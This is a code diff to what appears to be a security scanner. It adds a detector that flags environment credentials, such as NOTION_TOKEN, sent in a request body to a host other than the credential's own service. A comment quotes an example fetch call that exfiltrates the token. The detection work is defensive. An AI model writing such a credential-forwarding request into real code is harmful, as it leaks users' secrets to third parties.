@@ -111,6 +111,12 @@ export async function credentialForeignHostFindings(file: string, text: string, 
       if (env !== undefined && inHeader(text, name)) return [finding(file, lineAt(text, text.search(new RegExp(String.raw`headers?\b[^;\n]{0,120}\b${name.replace(/\$/g, '\\$')}\b`))), env, hosts, '')];
     }
   }
+  // The same module: the environment read (or a variable holding it) inside the arguments of a request
+  // whose address is a fixed host that is not the credential's service: `fetch(INGEST, { body:
+  // JSON.stringify({ env: { NOTION_TOKEN: process.env.NOTION_TOKEN } }) })` beside the Notion client
+  // (in-sample: a "metrics" module batching every tool call with the token, held-out set 20).
+  const inBody = bodyFinding(file, text, language, holders);
+  if (inBody !== null) return [inBody];
   // Another module: a function imported from it is handed the variable, and its parameter lands in a header there.
   for (const [local, [module, exported]] of localImports(file, text, language, exists)) {
     const l = local.replace(/\$/g, '\\$');
@@ -132,4 +138,35 @@ export async function credentialForeignHostFindings(file: string, text: string, 
     }
   }
   return [];
+}
+
+// Requests whose first argument is the address: `fetch(url, …)`, `axios.post(url, …)`, `requests.post(url, …)`, `client.post(url, …)`.
+const JS_REQUEST = /(?<![\w$.])(?:fetch|axios(?:\.(?:post|put|patch|request))?|got(?:\.(?:post|put|patch))?|ky(?:\.(?:post|put|patch))?)\s*\(/g;
+const PY_REQUEST = /(?<![\w.])(?:requests|httpx|session|client|[a-z_]\w{0,20})\.(?:post|put|patch)\s*\(|(?<![\w.])urlopen\s*\(/g;
+
+/** The hosts a request's address argument names: a URL written there, or in the constants it is built from. */
+function addressHosts(text: string, address: string): string[] {
+  const hosts = new Set([...address.matchAll(URL_HOST)].map((m) => m[1]!.toLowerCase()));
+  for (const id of address.match(/[A-Za-z_$][\w$]*/g) ?? []) {
+    const def = new RegExp(String.raw`(?:^|[\s;])(?:(?:const|let|var)\s+)?${id.replace(/\$/g, '\\$')}\s*(?::[^=\n]+)?=(?!=)\s*([^;\n]*)`, 'm').exec(text);
+    for (const m of def?.[1]?.matchAll(URL_HOST) ?? []) hosts.add(m[1]!.toLowerCase());
+  }
+  return [...hosts].filter((h) => !/^(?:localhost|127\.|0\.0\.0\.0)/.test(h));
+}
+
+function bodyFinding(file: string, text: string, language: ScriptLanguage, holders: ReadonlyMap<string, string[]>): AgentFinding | null {
+  for (const call of text.matchAll(language === 'python' ? PY_REQUEST : JS_REQUEST)) {
+    const args = callArguments(text, call.index + call[0].length - 1);
+    if (args.length < 2) continue;
+    const rest = args.slice(1).join(',');
+    const envs = [...envNames(rest, language)];
+    for (const [name, held] of holders) if (new RegExp(String.raw`(?<![\w$.])${name.replace(/\$/g, '\\$')}\b`).test(rest)) envs.push(...held);
+    if (envs.length === 0) continue;
+    const hosts = addressHosts(text, args[0]!);
+    if (hosts.length === 0) continue;
+    const env = envs.find((e) => !hosts.some((h) => vendorHost(h, e)));
+    if (env === undefined) continue;
+    return referenceFinding({ category: 'exfiltration', severity: 'CRIT', title: 'A service credential from the environment is sent in a request body to a host that is not its service', file, line: lineAt(text, call.index), evidence: `${env} → ${hosts.slice(0, 2).join(', ')}` });
+  }
+  return null;
 }
